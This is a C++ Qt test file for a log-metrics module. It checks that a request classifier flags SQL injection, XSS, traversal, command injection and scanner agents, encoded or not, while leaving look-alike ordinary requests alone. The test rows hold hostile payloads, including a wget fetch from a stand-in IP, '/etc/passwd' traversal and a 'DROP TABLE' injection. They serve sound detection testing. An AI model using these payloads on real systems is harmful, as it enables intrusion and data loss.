// Logs as metrics (core/logs/log_metrics.h) and the suspicious-request signatures
// (core/logs/suspicious_request.h): attacks found plain, URL-encoded and double-encoded; ordinary
// requests that share their words (a product called "select chair", a search for "union station",
// a path with "..." in a name) are not.
#include "core/logs/log_metrics.h"
#include "core/logs/log_parsers.h"
#include "core/logs/suspicious_request.h"

#include <QTest>

using namespace pulse;

class TstLogMetrics : public QObject {
    Q_OBJECT
private slots:
    void signatures_data();
    void signatures();
    void decodesOnceAndTwice();
    void countsLinesRequestsBytesAndAttacks();
    void requestTimeHistogram();
    void userRules();
    void ruleLabelSetsAreBounded();
    void ruleChecks_data();
    void ruleChecks();
};

namespace {

std::map<std::string, double> valuesOf(const LogMetrics &metrics)
{
    std::map<std::string, double> values;
    for (const Sample &s : metrics.batch(1).samples)
        values[s.metric + s.labels.toString()] = s.value;
    return values;
}

LogRecord plainRecord(const std::string &line)
{
    return parseLogLine(LogFormat::Plain, line, {"app", 1'800'000'000'000, 0});
}

} // namespace

void TstLogMetrics::signatures_data()
{
    QTest::addColumn<QString>("path");
    QTest::addColumn<QString>("agent");
    QTest::addColumn<QString>("kind");
    // Attacks.
    QTest::newRow("union select") << "/items?id=1 UNION SELECT password FROM users" << "curl" << "sqli";
    QTest::newRow("union select, encoded") << "/items?id=1%20union%20all%20select%201,2" << "curl" << "sqli";
    QTest::newRow("union select, comments as blanks") << "/items?id=1/**/UNION/**/SELECT/**/1" << "curl" << "sqli";
    QTest::newRow("or 1=1") << "/login?user=admin'%20OR%20'1'='1" << "curl" << "sqli";
    QTest::newRow("sleep") << "/items?id=1 AND SLEEP(5)" << "curl" << "sqli";
    QTest::newRow("stacked drop") << "/items?id=1;DROP TABLE users" << "curl" << "sqli";
    QTest::newRow("script tag") << "/search?q=<script>alert(1)</script>" << "curl" << "xss";
    QTest::newRow("script tag, double-encoded") << "/search?q=%253Cscript%253Ealert(1)" << "curl" << "xss";
    QTest::newRow("onerror") << "/search?q=<img src=x onerror=alert(1)>" << "curl" << "xss";
    QTest::newRow("javascript: url") << "/r?next=javascript:alert(document.domain)" << "curl" << "xss";
    QTest::newRow("traversal") << "/static/../../etc/passwd" << "curl" << "traversal";
    QTest::newRow("traversal, encoded slash") << "/static/..%2f..%2fapp.conf" << "curl" << "traversal";
    QTest::newRow("traversal, double-encoded") << "/static/%252e%252e%252fsecret" << "curl" << "traversal";
    QTest::newRow("command after ;") << "/ping?host=127.0.0.1;cat /etc/hosts" << "curl" << "cmdi";
    QTest::newRow("command substitution") << "/ping?host=$(whoami)" << "curl" << "cmdi";
    QTest::newRow("backticks") << "/ping?host=`id`" << "curl" << "cmdi";
    QTest::newRow("fetch and run") << "/x?u=1|wget http://203.0.113.5/x.sh" << "curl" << "cmdi";
    QTest::newRow("scanner by agent") << "/" << "sqlmap/1.7.2#stable (https://sqlmap.org)" << "scanner";
    QTest::newRow("scanner, any case") << "/robots.txt" << "Mozilla/5.00 (Nikto/2.1.6)" << "scanner";
    // Ordinary requests.
    QTest::newRow("a product named select") << "/products/select-chair?color=red" << "Mozilla/5.0" << "";
    QTest::newRow("search union station") << "/search?q=union+station+select+seats" << "Mozilla/5.0" << "";
    QTest::newRow("from in a query") << "/trips?from=paris&to=rome&select=cheapest" << "Mozilla/5.0" << "";
    QTest::newRow("dots in a name") << "/files/report...final.pdf" << "Mozilla/5.0" << "";
    QTest::newRow("script in a word") << "/docs/javascript-guide?section=scripts" << "Mozilla/5.0" << "";
    QTest::newRow("an ampersand list") << "/api?a=1&b=2&id=cat" << "Mozilla/5.0" << "";
    QTest::newRow("percent sign") << "/discount?rate=50%25&ok=1" << "Mozilla/5.0" << "";
    QTest::newRow("curl is not a scanner") << "/healthz" << "curl/8.4.0" << "";
    QTest::newRow("a field list with a bar") << "/api/users?fields=name|id" << "Mozilla/5.0" << "";
    QTest::newRow("a column list with a semicolon") << "/report?cols=name;id;email" << "Mozilla/5.0" << "";
    QTest::newRow("dog & cat food") << "/search?q=dog+%26+cat+food" << "Mozilla/5.0" << "";
    QTest::newRow("a book about javascript:") << "/search?q=javascript:+the+good+parts" << "Mozilla/5.0" << "";
    QTest::newRow("select from a system") << "/q?text=select+one+from+system+settings" << "Mozilla/5.0" << "";
}

void TstLogMetrics::signatures()
{
    QFETCH(QString, path);
    QFETCH(QString, agent);
    QFETCH(QString, kind);
    QCOMPARE(QString::fromLatin1(suspiciousRequestKind(path.toStdString(), agent.toStdString())), kind);
}

void TstLogMetrics::decodesOnceAndTwice()
{
    QCOMPARE(urlDecoded("a%20b+c%2Fd"), std::string("a b c/d"));
    QCOMPARE(urlDecoded("%252e"), std::string("%2e"));
    QCOMPARE(urlDecoded("100%"), std::string("100%"));   // a stray % stays
    QCOMPARE(urlDecoded("%zz%4"), std::string("%zz%4")); // and so do malformed escapes
}

void TstLogMetrics::countsLinesRequestsBytesAndAttacks()
{
    LogMetrics metrics("api-log");
    const LogLineContext context{"api-log", 1'800'000'000'000, 0};
    for (const char *line : {
             R"(10.0.0.1 - - [07/Dec/2026:03:12:00 +0000] "GET /a HTTP/1.1" 200 100 "-" "curl")",
             R"(10.0.0.1 - - [07/Dec/2026:03:12:00 +0000] "GET /b HTTP/1.1" 200 50 "-" "curl")",
             R"(10.0.0.1 - - [07/Dec/2026:03:12:01 +0000] "POST /login HTTP/1.1" 401 0 "-" "curl")",
             R"(10.0.0.9 - - [07/Dec/2026:03:12:02 +0000] "GET /x?id=1%20union%20select%201 HTTP/1.1" 500 7 "-" "curl")",
             "not an access line",
         }) {
        LogRecord r = parseLogLine(LogFormat::NginxCombined, line, context);
        metrics.add(r);
        if (std::string_view(line).find("union") != std::string_view::npos)
            QCOMPARE(r.field("suspicious"), std::string_view("sqli"));
        else
            QVERIFY(r.field("suspicious").empty());
    }
    const MetricBatch batch = metrics.batch(1'800'000'060'000);
    std::map<std::string, double> values;
    for (const Sample &s : batch.samples) {
        QCOMPARE(s.labels.value("target"), std::string_view("api-log"));
        QCOMPARE(s.timestampMs, std::int64_t(1'800'000'060'000));
        values[s.metric + s.labels.toString()] = s.value;
    }
    const std::map<std::string, double> expected{
        {R"(http_requests_total{method="GET",status_class="2xx",target="api-log"})", 2},
        {R"(http_requests_total{method="GET",status_class="5xx",target="api-log"})", 1},
        {R"(http_requests_total{method="POST",status_class="4xx",target="api-log"})", 1},
        {R"(http_response_bytes_total{target="api-log"})", 157},
        {R"(log_lines_total{level="error",target="api-log"})", 1},
        {R"(log_lines_total{level="info",target="api-log"})", 2},
        {R"(log_lines_total{level="unknown",target="api-log"})", 1},
        {R"(log_lines_total{level="warn",target="api-log"})", 1},
        {R"(log_suspicious_requests_total{kind="sqli",target="api-log"})", 1},
    };
    QCOMPARE(values, expected);
}

void TstLogMetrics::requestTimeHistogram()
{
    LogMetrics metrics("api");
    const LogLineContext context{"api", 1'800'000'000'000, 0};
    for (const char *line : {R"({"status":200,"method":"GET","request_time":0.042})",
                             R"({"status":500,"method":"GET","request_time":3})", R"({"status":200,"duration_ms":7})",
                             R"({"status":200})"}) {
        LogRecord r = parseLogLine(LogFormat::JsonLines, line, context);
        metrics.add(r);
    }
    const auto values = valuesOf(metrics);
    QCOMPARE(values.at(R"(http_request_duration_seconds_count{target="api"})"), 3.0);
    QCOMPARE(values.at(R"(http_request_duration_seconds_sum{target="api"})"), 3.049);
    QCOMPARE(values.at(R"(http_request_duration_seconds_bucket{le="0.005",target="api"})"), 0.0);
    QCOMPARE(values.at(R"(http_request_duration_seconds_bucket{le="0.01",target="api"})"), 1.0);
    QCOMPARE(values.at(R"(http_request_duration_seconds_bucket{le="0.05",target="api"})"), 2.0);
    QCOMPARE(values.at(R"(http_request_duration_seconds_bucket{le="2.5",target="api"})"), 2.0);
    QCOMPARE(values.at(R"(http_request_duration_seconds_bucket{le="5",target="api"})"), 3.0);
    QCOMPARE(values.at(R"(http_request_duration_seconds_bucket{le="+Inf",target="api"})"), 3.0);
}

void TstLogMetrics::userRules()
{
    std::vector<CompiledLogMetricRule> rules;
    for (const LogMetricRule &rule : {
             LogMetricRule{"shop_checkouts_total", "Completed checkout", "", LogMetricType::Counter, {}, {}},
             LogMetricRule{"shop_refund_cents_total", R"re(refund (?<cents>\d+))re", "cents", LogMetricType::Counter,
                           {}, {}},
             LogMetricRule{"shop_queue_depth", R"re(queue=(?<depth>-?\d+))re", "depth", LogMetricType::Gauge, {}, {}},
             LogMetricRule{"shop_payment_ms",
                           R"re(payment (?<provider>\w+) took (?<ms>[0-9.]+)ms)re",
                           "ms",
                           LogMetricType::Histogram,
                           {{"provider", "$provider"}, {"via", "psp-${provider}-$$"}},
                           {100, 500}},
         }) {
        auto compiled = compileLogMetricRule(rule);
        QVERIFY2(compiled, compiled ? "" : compiled.error().message.c_str());
        rules.push_back(std::move(*compiled));
    }
    LogMetrics metrics("shop", rules);
    for (const char *line : {"Completed checkout 1", "Completed checkout 2", "refund 250", "refund 50",
                             "refund lots", "queue=7", "queue=3", "payment stripe took 80ms",
                             "payment stripe took 400.5ms", "payment adyen took 900ms", "nothing"}) {
        LogRecord r = plainRecord(line);
        metrics.add(r);
    }
    const auto values = valuesOf(metrics);
    QCOMPARE(values.at(R"(shop_checkouts_total{target="shop"})"), 2.0);
    QCOMPARE(values.at(R"(shop_refund_cents_total{target="shop"})"), 300.0); // "lots" is not a number
    QCOMPARE(values.at(R"(shop_queue_depth{target="shop"})"), 3.0);
    const char *stripe = R"(provider="stripe",target="shop",via="psp-stripe-$")";
    QCOMPARE(values.at(std::string("shop_payment_ms_bucket{le=\"100\",") + stripe + "}"), 1.0);
    QCOMPARE(values.at(std::string("shop_payment_ms_bucket{le=\"500\",") + stripe + "}"), 2.0);
    QCOMPARE(values.at(std::string("shop_payment_ms_bucket{le=\"+Inf\",") + stripe + "}"), 2.0);
    QCOMPARE(values.at(std::string("shop_payment_ms_sum{") + stripe + "}"), 480.5);
    QCOMPARE(values.at(std::string("shop_payment_ms_count{") + stripe + "}"), 2.0);
    QCOMPARE(values.at(R"(shop_payment_ms_count{provider="adyen",target="shop",via="psp-adyen-$"})"), 1.0);
}

void TstLogMetrics::ruleLabelSetsAreBounded()
{
    auto rule = compileLogMetricRule(
        {"app_requests_total", R"re(user=(?<user>\S+))re", "", LogMetricType::Counter, {{"user", "$user"}}, {}});
    QVERIFY(rule);
    LogMetrics metrics("app", {*rule});
    const std::size_t lines = LogMetrics::kMaxSeriesPerRule + 25;
    for (std::size_t i = 0; i < lines; ++i) {
        LogRecord r = plainRecord("user=u" + std::to_string(i));
        metrics.add(r);
    }
    const auto values = valuesOf(metrics);
    std::size_t series = 0;
    for (const auto &[key, value] : values)
        series += key.starts_with("app_requests_total{") ? 1 : 0;
    QCOMPARE(series, LogMetrics::kMaxSeriesPerRule);
    QCOMPARE(values.at(R"(log_metric_series_dropped_total{metric="app_requests_total",target="app"})"), 25.0);

    // A histogram's label set takes one place, and keeps its buckets, sum and count together.
    auto histogram = compileLogMetricRule({"app_took_ms", R"re(user=(?<user>\S+) took=(?<ms>\d+))re", "ms",
                                           LogMetricType::Histogram, {{"user", "$user"}}, {10, 100}});
    QVERIFY(histogram);
    LogMetrics timed("app", {*histogram});
    for (std::size_t i = 0; i < lines; ++i) {
        LogRecord r = plainRecord("user=u" + std::to_string(i) + " took=5");
        timed.add(r);
    }
    std::size_t counts = 0, buckets = 0, sums = 0;
    for (const auto &[key, value] : valuesOf(timed)) {
        counts += key.starts_with("app_took_ms_count{") ? 1 : 0;
        buckets += key.starts_with("app_took_ms_bucket{") ? 1 : 0;
        sums += key.starts_with("app_took_ms_sum{") ? 1 : 0;
    }
    QCOMPARE(counts, LogMetrics::kMaxSeriesPerRule);
    QCOMPARE(sums, LogMetrics::kMaxSeriesPerRule);
    QCOMPARE(buckets, 3 * LogMetrics::kMaxSeriesPerRule);
}

void TstLogMetrics::ruleChecks_data()
{
    QTest::addColumn<QString>("name");
    QTest::addColumn<QString>("match");
    QTest::addColumn<QString>("value");
    QTest::addColumn<int>("type");
    QTest::addColumn<QString>("label"); // name=template, or empty
    QTest::addColumn<QString>("error");
    const int counter = int(LogMetricType::Counter);
    const int histogram = int(LogMetricType::Histogram);
    QTest::newRow("bad name") << "shop-total" << "x" << "" << counter << "" << "name: 'shop-total' is not a metric name";
    QTest::newRow("built-in name") << "log_lines_total" << "x" << "" << counter << "" << "name: 'log_lines_total' is a series";
    QTest::newRow("no match") << "a_total" << "" << "" << counter << "" << "match: a regular expression is required";
    QTest::newRow("bad match") << "a_total" << "(x" << "" << counter << "" << "match: invalid regular expression at offset";
    QTest::newRow("unknown value group") << "a_total" << "(?<n>\\d+)" << "m" << counter << "" << "value: match has no group named 'm'";
    QTest::newRow("histogram without value") << "a_seconds" << "x" << "" << histogram << "" << "value: a histogram needs";
    QTest::newRow("label names no group") << "a_total" << "x" << "" << counter << "user=$user" << "labels.user: $user names no group";
    QTest::newRow("target label") << "a_total" << "x" << "" << counter << "target=x" << "labels.target: Pulseboard sets this label";
    QTest::newRow("reserved label") << "a_total" << "x" << "" << counter << "__name__=x" << "labels.__name__: not a label name";
}

void TstLogMetrics::ruleChecks()
{
    QFETCH(QString, name);
    QFETCH(QString, match);
    QFETCH(QString, value);
    QFETCH(int, type);
    QFETCH(QString, label);
    QFETCH(QString, error);
    LogMetricRule rule{name.toStdString(), match.toStdString(), value.toStdString(), static_cast<LogMetricType>(type),
                       {}, {}};
    if (!label.isEmpty())
        rule.labels.emplace_back(label.section(QLatin1Char('='), 0, 0).toStdString(),
                                 label.section(QLatin1Char('='), 1).toStdString());
    const auto compiled = compileLogMetricRule(rule);
    QVERIFY(!compiled);
    QVERIFY2(QString::fromStdString(compiled.error().message).startsWith(error), compiled.error().message.c_str());
}

QTEST_GUILESS_MAIN(TstLogMetrics)
#include "tst_log_metrics.moc"
